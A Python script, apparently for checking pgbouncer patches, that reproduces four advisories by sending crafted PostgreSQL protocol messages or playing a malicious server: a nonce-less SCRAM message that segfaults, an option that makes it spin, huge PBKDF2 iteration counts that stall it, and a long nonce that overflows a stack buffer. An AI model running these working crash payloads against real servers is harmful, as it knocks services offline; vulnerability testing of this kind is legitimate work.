#!/usr/bin/env python3
"""The unauthenticated requests of pgbouncer's advisories that our patches fix.

usage: pgbouncer-cves.py CASE HOST PORT USER DATABASE [SERVER_PORT]

CASE is one of (the server-* cases play a malicious PostgreSQL server on 127.0.0.1:SERVER_PORT,
where pgbouncer's DATABASE must point, and log in through pgbouncer to make it connect there):
- scram-final-without-nonce (CVE-2026-19888): starts a SCRAM-SHA-256 exchange as a client would,
  then answers the server-first-message with `c=biws,p=<32 random bytes>` and no `r=`. pgbouncer
  before 1.26.0 passed the missing nonce to strlen() and died of SIGSEGV.
- empty-option-name (CVE-2026-107349): a startup packet whose `options` is `-c=`. pgbouncer before
  1.26.1, with ignore_startup_parameters set (ours is by default), spun for ever on it.
- server-iterations (CVE-2026-6669): the server asks for 2^31-1 PBKDF2 iterations. pgbouncer
  before 1.26.0 ran them all on its one event loop, minutes in which no client was served.
- server-long-nonce (CVE-2026-6665, the part of upstream pull request #1505): the server's nonce
  makes the client-final-message 480 bytes before its proof, and the proof's 44 bytes of base64
  were written past pgbouncer's 512-byte stack buffer (the stack protector aborts it).

Prints what the server answered to the request: "error: <its message>", "closed" (the connection
ended without an answer, as when the pooler crashed), "no answer" (nothing within 5 s, as when it
spins) or "refused" (nothing listens). Exits 0 when it got as far as the request, 2 otherwise.
"""
import base64
import os
import socket
import struct
import sys
import threading


def message(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("!I", len(body) + 4) + body


def read_message(sock: socket.socket):
    """One backend message as (kind, body), or None when the server closed the connection."""
    head = read_exactly(sock, 5)
    if head is None:
        return None
    kind, length = head[:1], struct.unpack("!I", head[1:])[0]
    body = read_exactly(sock, length - 4)
    return None if body is None else (kind, body)


def read_exactly(sock: socket.socket, n: int):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            return None
        data += chunk
    return data


def error_text(body: bytes) -> str:
    fields = dict((f[:1], f[1:].decode(errors="replace")) for f in body.split(b"\0") if f)
    return fields.get(b"M", "?")


def startup(sock: socket.socket, user: str, database: str, extra: bytes = b"") -> None:
    params = b"user\0" + user.encode() + b"\0database\0" + database.encode() + b"\0" + extra + b"\0"
    sock.sendall(struct.pack("!II", len(params) + 8, 196608) + params)


def answer(sock: socket.socket) -> str:
    try:
        reply = read_message(sock)
    except socket.timeout:
        return "no answer"
    if reply is None:
        return "closed"
    if reply[0] == b"E":
        return f"error: {error_text(reply[1])}"
    return f"answered {reply[0]!r}"


def empty_option_name(sock: socket.socket, user: str, database: str) -> int:
    startup(sock, user, database, b"options\0-c=\0")
    print(answer(sock))
    return 0


def scram_final_without_nonce(sock: socket.socket, user: str, database: str) -> int:
    startup(sock, user, database)
    reply = read_message(sock)
    if reply is None or reply[0] != b"R" or struct.unpack("!I", reply[1][:4])[0] != 10:
        print(f"no SASL offer: {reply!r}")
        return 2
    client_first = b"n,,n=,r=" + base64.b64encode(os.urandom(18))
    sock.sendall(message(b"p", b"SCRAM-SHA-256\0" + struct.pack("!I", len(client_first)) + client_first))
    reply = read_message(sock)
    if reply is None or reply[0] != b"R" or struct.unpack("!I", reply[1][:4])[0] != 11:
        print(f"no server-first-message: {reply!r}")
        return 2
    sock.sendall(message(b"p", b"c=biws,p=" + base64.b64encode(os.urandom(32))))
    print(answer(sock))
    return 0


def scram_server(listener: socket.socket, iterations: int, nonce_len: int) -> None:
    """Answers one connection as a PostgreSQL server offering SCRAM with these parameters."""
    conn, _ = listener.accept()
    with conn:
        conn.settimeout(30)
        while True:  # an SSLRequest first (pgbouncer's sslmode prefer), refused, then the startup
            head = read_exactly(conn, 8)
            if head is None:
                return
            length, code = struct.unpack("!II", head)
            read_exactly(conn, length - 8)
            if code != 80877103:
                break
            conn.sendall(b"N")
        conn.sendall(message(b"R", struct.pack("!I", 10) + b"SCRAM-SHA-256\0\0"))
        reply = read_message(conn)
        if reply is None:
            return
        client_first = reply[1].split(b"\0", 1)[1][4:]
        client_nonce = client_first.split(b"r=", 1)[1]
        nonce = client_nonce + b"x" * max(1, nonce_len - len(client_nonce))
        salt = base64.b64encode(os.urandom(16))
        conn.sendall(message(b"R", struct.pack("!I", 11) + b"r=" + nonce + b",s=" + salt + b",i=" + str(iterations).encode()))
        try:
            final = read_message(conn)
            SERVER["client-final"] = final is not None and final[0] == b"p"
            if final is not None:
                conn.sendall(message(b"E", b"SFATAL\0C28P01\0Mpassword authentication failed\0\0"))
        except OSError:  # pgbouncer dropped the connection: that is its answer
            pass


def through_server(iterations: int, nonce_len: int):
    def case(sock: socket.socket, user: str, database: str) -> int:
        server = threading.Thread(target=scram_server, args=(LISTENER, iterations, nonce_len), daemon=True)
        server.start()
        startup(sock, user, database)
        while True:
            got = answer(sock)
            if not got.startswith("answered"):
                break
        print(got)
        server.join(5)
        print(f"server got a client-final-message: {'yes' if SERVER['client-final'] else 'no'}")
        return 0
    return case


SERVER = {"client-final": False}


CASES = {
    "scram-final-without-nonce": scram_final_without_nonce,
    "empty-option-name": empty_option_name,
    "server-iterations": through_server(2**31 - 1, 24),
    # "c=biws,r=" + 468 + ",p=" is 480 bytes: the old check passed it, the proof did not fit
    "server-long-nonce": through_server(4096, 468),
}
LISTENER = None


def main() -> int:
    global LISTENER
    if len(sys.argv) not in (6, 7) or sys.argv[1] not in CASES or sys.argv[1].startswith("server-") != (len(sys.argv) == 7):
        print(f"usage: pgbouncer-cves.py {{{'|'.join(CASES)}}} HOST PORT USER DATABASE [SERVER_PORT]", file=sys.stderr)
        return 2
    case, host, port, user, database = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
    if len(sys.argv) == 7:
        LISTENER = socket.create_server(("127.0.0.1", int(sys.argv[6])))
    try:
        sock = socket.create_connection((host, port), timeout=5)
    except OSError:
        print("refused")
        return 2
    with sock:
        try:
            return CASES[case](sock, user, database)
        except socket.timeout:
            print("no answer before the request")
            return 2


if __name__ == "__main__":
    sys.exit(main())
